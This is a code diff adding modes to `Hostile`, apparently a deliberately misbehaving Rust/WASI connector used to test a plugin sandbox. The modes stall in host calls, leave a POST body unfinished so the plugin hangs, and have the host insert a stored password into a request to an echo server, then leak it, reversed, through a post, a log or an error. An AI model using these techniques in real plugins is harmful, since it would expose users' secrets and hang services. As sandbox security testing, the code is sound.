@@ -47,6 +47,32 @@ fn spin() -> ! {
     }
 }
 
+/// Starts a POST to `target`, writes part of its body, never finishes it, and
+/// waits for the response (which cannot come before the body ends).
+fn unfinished_body(target: &str) -> Result<Page, PluginError> {
+    use wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};
+    let failed = |what: &str| PluginError::Transient(format!("unfinished-body: {what}"));
+    let authority = target.split_once("://").map_or(target, |(_, rest)| rest);
+    let request = OutgoingRequest::new(Fields::new());
+    request.set_method(&Method::Post).map_err(|()| failed("method"))?;
+    request.set_scheme(Some(&Scheme::Http)).map_err(|()| failed("scheme"))?;
+    request
+        .set_authority(Some(authority))
+        .map_err(|()| failed("authority"))?;
+    request
+        .set_path_with_query(Some("/upload"))
+        .map_err(|()| failed("path"))?;
+    let body = request.body().map_err(|()| failed("body"))?;
+    let pending = wasi::http::outgoing_handler::handle(request, None).map_err(|e| failed(&format!("{e:?}")))?;
+    let stream = body.write().map_err(|()| failed("stream"))?;
+    stream
+        .blocking_write_and_flush(b"partial")
+        .map_err(|e| failed(&format!("{e:?}")))?;
+    pending.subscribe().block();
+    drop(stream);
+    Ok(page(vec![post(1, "answered".into())]))
+}
+
 fn page(posts: Vec<Post>) -> Page {
     Page {
         posts,
@@ -101,6 +127,37 @@ impl Connector for Hostile {
                 Ok(page(vec![post(1, previous.unwrap_or_default())]))
             }
             "calls" => Ok(page(vec![post(1, calls.to_string())])),
+            // Waits in host calls, where no epoch deadline can reach.
+            "sleep" => {
+                kv::set("token", b"from a call cut off").map_err(PluginError::Transient)?;
+                std::thread::sleep(std::time::Duration::from_secs(3_600));
+                Ok(page(vec![post(1, "woke up".into())]))
+            }
+            "unfinished-body" => unfinished_body(config.require("target")?),
+            // Has the host fill a secret into a request to a server that echoes
+            // it back (as sent, or reversed), and tries to publish what it got.
+            "echo-secret" | "leak-secret" => {
+                let path = if config.require("mode")? == "echo-secret" {
+                    "echo"
+                } else {
+                    "reverse"
+                };
+                let response = Request::post(format!("{}/{path}", config.require("target")?))
+                    .fill_secrets(&["password"])
+                    .body("{{secret.password}}")
+                    .send()?;
+                let learned: String = if path == "echo" {
+                    response.text()
+                } else {
+                    response.text().chars().rev().collect()
+                };
+                socialcrm_sdk::log::warn(&format!("learned {learned}"));
+                if path == "echo" {
+                    Ok(page(vec![post(1, learned)]))
+                } else {
+                    Err(PluginError::Transient(format!("learned {learned}")))
+                }
+            }
             other => Err(PluginError::InvalidConfig(format!("unknown mode `{other}`"))),
         }
     }
